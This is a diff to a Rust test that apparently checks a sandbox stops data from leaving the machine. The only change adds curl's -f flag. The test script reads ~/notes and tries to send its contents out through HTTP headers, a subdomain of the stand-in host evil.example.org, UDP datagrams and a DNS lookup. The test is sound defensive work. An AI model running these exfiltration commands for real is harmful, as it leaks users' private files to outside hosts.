@@ -17,10 +17,10 @@ fn nothing_goes_out_by_http_headers_names_or_datagrams() {
     );
     let text = format!(
         "secret=$(cat ~/notes)\n\
-         curl -sS -m 5 -H \"X-Secret: $secret\" http://127.0.0.1:{tcp_port}/ || echo no 1\n\
-         curl -sS -m 5 --noproxy '*' -H \"X-Secret: $secret\" http://127.0.0.1:{tcp_port}/ || echo no 2\n\
-         curl -sS -m 5 -H \"X-Secret: $secret\" https://$secret.evil.example.org/ || echo no 3\n\
-         curl -sS -m 5 -p -x http://127.0.0.1:3128 https://127.0.0.1:{tcp_port}/ || echo no 4\n\
+         curl -sSf -m 5 -H \"X-Secret: $secret\" http://127.0.0.1:{tcp_port}/ || echo no 1\n\
+         curl -sSf -m 5 --noproxy '*' -H \"X-Secret: $secret\" http://127.0.0.1:{tcp_port}/ || echo no 2\n\
+         curl -sSf -m 5 -H \"X-Secret: $secret\" https://$secret.evil.example.org/ || echo no 3\n\
+         curl -sSf -m 5 -p -x http://127.0.0.1:3128 https://127.0.0.1:{tcp_port}/ || echo no 4\n\
          bash -c \"echo $secret > /dev/udp/127.0.0.1/{udp_port}\" || echo no 5\n\
          bash -c \"echo $secret > /dev/udp/8.8.8.8/53\" || echo no 6\n\
          getent hosts $secret.evil.example.org || echo no 7\n"
